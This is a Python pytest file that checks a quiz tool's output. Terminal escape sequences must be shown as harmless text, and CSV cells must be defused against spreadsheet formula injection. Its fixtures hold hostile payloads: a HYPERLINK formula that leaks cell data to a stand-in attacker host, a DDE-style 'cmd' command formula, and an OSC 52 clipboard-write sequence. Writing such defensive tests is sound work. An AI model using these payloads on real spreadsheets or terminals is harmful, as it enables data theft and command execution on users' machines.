"""Issue 19, items 1 and 2: nothing a quiz or a model says reaches the terminal as an escape
sequence, and no CSV the program writes hands a spreadsheet a formula.

The hostile quiz carries what the issue found getting through: an OSC 52 clipboard write
(``ESC ] 52 ; c ; … BEL``, which set the clipboard of a tmux through ``report --format csv``), a
terminal reset (``ESC c``), a C1 CSI (U+009B), a DCS string and a bidi override; and the cells
a spreadsheet runs: ``=HYPERLINK(…)``, ``+``, ``-`` and ``@`` formulas, a leading tab and CR.
Real processes, a real store, the simulated judge. What goes to a terminal comes from a real
process; a file's or a CSV's cells are checked through ``main()`` in-process (``cli_helpers``).
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from cli_helpers import quiztui_main
from conftest import isolated_env

from quiztui.core.terminal import csv_cell, csv_unquote, is_terminal_safe, terminal_safe
from quiztui.log import RedactingFilter

OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"
RESET = "\x1bc"
C1_CSI = "\x9b31m"
DCS = "\x1bP1$tx\x1b\\"
BIDI = "\u202eevil\u202c"
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c")

HOSTILE_QUESTION = f"Which planet{OSC52} is{RESET} red{C1_CSI}?{DCS} {BIDI}"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
FORMULAS = ("+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTAB", "\rCR")


def hostile_quiz(path: Path) -> Path:
    """A Quizaic JSON file as a user's hostile bank would look: one question per trick."""
    items = [
        {"question": HOSTILE_QUESTION, "responses": ["Mars", "Venus", "Earth"], "correct": "Mars"},
        {"question": FORMULA, "responses": ["yes", "no"], "correct": "yes"},
        {"question": "Which cell?", "responses": list(FORMULAS), "correct": FORMULAS[0]},
        {"question": "Which number is negative?", "responses": ["-0.5", "2"], "correct": "-0.5"},
    ]
    path.write_text(json.dumps(items, indent=1), encoding="utf-8")
    return path


def quiztui(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "quiztui", *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=dict(os.environ) if env is None else env,
        timeout=120,
    )


def assert_safe(text: str, where: str) -> None:
    found = [repr(ch) for ch in RAW if ch in text]
    assert not found, f"{where}: {found}"
    assert is_terminal_safe(text), where


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """One real vet run of the hostile quiz per module (each test gets a copy of its store)."""
    home = tmp_path_factory.mktemp("hostile")
    quiz = hostile_quiz(home / "hostile.json")
    db = home / "runs.db"
    env = isolated_env(home)
    out = quiztui("vet", str(quiz), "--no-tui", "--db", str(db), "--format", "md", env=env)
    assert out.returncode in (0, 1), out.stderr
    assert_safe(out.stdout, "vet md stdout")
    assert_safe(out.stderr, "vet stderr")
    assert "\\x1b" in out.stdout and "52;c;ZWNo" in out.stdout  # shown visibly, not dropped
    return quiz, db


@pytest.fixture
def stored_run(hostile_run: tuple[Path, Path], tmp_path: Path) -> tuple[Path, Path]:
    quiz, db = hostile_run
    for part in (db, db.with_name(db.name + "-wal")):  # the store is closed: its WAL is empty
        if part.exists():
            shutil.copy(part, tmp_path / part.name)
    return quiz, tmp_path / db.name


# -- item 1: terminal-safe text -------------------------------------------------------------------


def test_the_sanitiser_makes_every_escape_visible_and_keeps_tab_and_newline() -> None:
    text = f"a\tb\n{OSC52}{RESET}{C1_CSI}{DCS}{BIDI}\x7f\r\x00"
    safe = terminal_safe(text)
    assert is_terminal_safe(safe) and not is_terminal_safe(text)
    assert safe.startswith("a\tb\n\\x1b]52;c;ZWNobyBwd25lZA==\\x07\\x1bc\\u009b31m\\x1bP1$tx")
    assert safe.endswith("\\u202eevil\\u202c\\u007f\\x0d\\x00")
    assert terminal_safe(safe) == safe  # idempotent: applied at every exit, it changes nothing more
    assert terminal_safe("Zürich — 東京 ✓") == "Zürich — 東京 ✓"


@pytest.mark.parametrize("fmt", ["csv", "md", "json", "html", "junit"])
def test_report_of_a_hostile_run_is_terminal_safe_in_every_format(
    stored_run: tuple[Path, Path], fmt: str, tmp_path: Path
) -> None:
    _, db = stored_run
    out = quiztui("report", "1", "--db", str(db), "--format", fmt)
    assert out.returncode == 0, out.stderr
    assert_safe(out.stdout, f"report --format {fmt}")
    written = tmp_path / f"report.{fmt}"
    out = quiztui_main("report", "1", "--db", str(db), "--format", fmt, "-o", str(written))
    assert out.returncode == 0, out.stderr
    assert_safe(written.read_text(encoding="utf-8"), f"report file {fmt}")


def test_runs_show_and_list_are_terminal_safe(stored_run: tuple[Path, Path]) -> None:
    _, db = stored_run
    for args in (("runs", "show", "1"), ("runs", "show", "1", "--format", "csv"), ("runs",)):
        out = quiztui(*args, "--db", str(db))
        assert out.returncode == 0, out.stderr
        assert_safe(out.stdout + out.stderr, " ".join(args))
    shown = quiztui("runs", "show", "1", "--db", str(db)).stdout
    assert "\\x1bc" in shown and "\\u009b31m" in shown and "\\u202eevil" in shown


def test_a_json_report_stays_valid_and_decodes_to_the_original_text(
    stored_run: tuple[Path, Path],
) -> None:
    _, db = stored_run
    out = quiztui("runs", "show", "1", "--db", str(db), "--format", "json")
    assert out.returncode == 0, out.stderr
    assert_safe(out.stdout, "runs show --format json")
    texts = [q["text"] for q in json.loads(out.stdout)["questions"]]
    assert HOSTILE_QUESTION in texts  # \u escapes: valid JSON, nothing lost


def test_lint_and_error_lines_are_terminal_safe(tmp_path: Path) -> None:
    quiz = hostile_quiz(tmp_path / "hostile.json")
    out = quiztui("lint", str(quiz))
    assert out.returncode in (0, 1), out.stderr
    assert_safe(out.stdout + out.stderr, "lint")
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps([{"question": f"q{OSC52}", "responses": ["a"], "correct": "b"}]))
    out = quiztui("vet", str(bad), "--no-tui", "--db", str(tmp_path / "x.db"))
    assert out.returncode == 2
    assert_safe(out.stderr, "error line")


def test_log_lines_are_terminal_safe() -> None:
    record = logging.LogRecord(
        "quiztui.test", logging.WARNING, __file__, 1, "reply was %r: %s", ("x", OSC52), None
    )
    assert RedactingFilter(["sk-secret-4242"]).filter(record)
    assert_safe(record.getMessage(), "log record")
    assert "\\x1b]52;c;" in record.getMessage()


async def test_tui_shows_the_issue_payloads_as_text_never_as_escapes() -> None:
    from test_tui import SIZE, finished, make_app, plain, screen_text
    from tui_helpers import make_quiz

    quiz = make_quiz(2, markup=False)
    evil = quiz.questions[0].model_copy(
        update={"text": HOSTILE_QUESTION, "options": (f"a{RESET}", C1_CSI, DCS, BIDI)}
    )
    app = make_app(quiz.model_copy(update={"questions": (evil, quiz.questions[1])}))
    async with app.run_test(size=SIZE) as pilot:
        screen = await finished(pilot)
        cells = [plain(c) for c in screen.questions_table.get_row("q1")]
        for row in screen.verdicts_table.rows:
            cells += [plain(c) for c in screen.verdicts_table.get_row(row)]
        for value in cells:
            assert value.isprintable(), repr(value)
        await pilot.press("enter")
        await pilot.pause()
        assert_safe(screen_text(app.screen), "question detail")


# -- item 2: spreadsheet-safe CSV -----------------------------------------------------------------


def test_csv_cells_are_marked_numbers_stay_numbers_and_unmarking_round_trips() -> None:
    for cell in (FORMULA, *FORMULAS, "'=already quoted", "''-x"):
        marked = csv_cell(cell)
        assert marked.startswith("'") and csv_unquote(marked) == cell
    for cell in ("-0.5", "+3", "-1e-3", "0.25", "plain", "'plain", ""):
        assert csv_cell(cell) == cell and csv_unquote(cell) == cell


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_report_neutralises_formulas_and_reads_back_exactly(
    stored_run: tuple[Path, Path],
) -> None:
    _, db = stored_run
    out = quiztui_main("report", "1", "--db", str(db), "--format", "csv")
    assert out.returncode == 0, out.stderr
    rows = csv_rows(out.stdout)
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
    assert not [c for c in cells if c.startswith("-") and c != "-0.5"], cells
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    formula_row = next(r for r in by_id.values() if "HYPERLINK" in r["question"])
    assert formula_row["question"] == "'" + FORMULA
    assert csv_unquote(formula_row["question"]) == FORMULA  # our own CSV read back: as it was
    cell_row = next(r for r in by_id.values() if r["question"] == "Which cell?")
    assert csv_unquote(cell_row["key"]) == FORMULAS[0] and cell_row["key"] == "'+1+2"
    negative = next(r for r in by_id.values() if r["question"] == "Which number is negative?")
    assert negative["key"] == "-0.5"  # a number stays a number
    float(negative["confidence"])  # numeric columns are untouched


def test_raw_csv_writes_cells_verbatim(stored_run: tuple[Path, Path]) -> None:
    _, db = stored_run
    out = quiztui_main("report", "1", "--db", str(db), "--format", "csv", "--raw-csv")
    assert out.returncode == 0, out.stderr
    questions = [row[1] for row in csv_rows(out.stdout)[1:]]
    assert FORMULA in questions
    shown = quiztui_main("runs", "show", "1", "--db", str(db), "--format", "csv", "--raw-csv")
    assert FORMULA in [row[1] for row in csv_rows(shown.stdout)[1:]]


def test_lint_csv_is_spreadsheet_safe_too(tmp_path: Path) -> None:
    quiz = hostile_quiz(tmp_path / "hostile.json")
    out = quiztui_main("lint", str(quiz), "--format", "csv")
    assert out.returncode in (0, 1), out.stderr
    cells = [cell for row in csv_rows(out.stdout) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_a_quiz_written_as_csv_is_spreadsheet_safe_and_reads_back_as_it_was(
    tmp_path: Path,
) -> None:
    from quiztui.formats import load_quiz

    source = hostile_quiz(tmp_path / "hostile.json")
    written = tmp_path / "bank.csv"
    out = quiztui_main("convert", str(source), str(written))
    assert out.returncode == 0, out.stderr
    cells = [cell for row in csv_rows(written.read_text(encoding="utf-8")) for cell in row]
    assert "'" + FORMULA in cells and "'+1+2" in cells and "-0.5" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
    before, after = load_quiz(source), load_quiz(written)
    assert [(q.text, q.options[q.key]) for q in after.questions] == [
        (q.text, q.options[q.key]) for q in before.questions
    ]
    assert [sorted(q.options) for q in after.questions] == [
        sorted(q.options) for q in before.questions
    ]
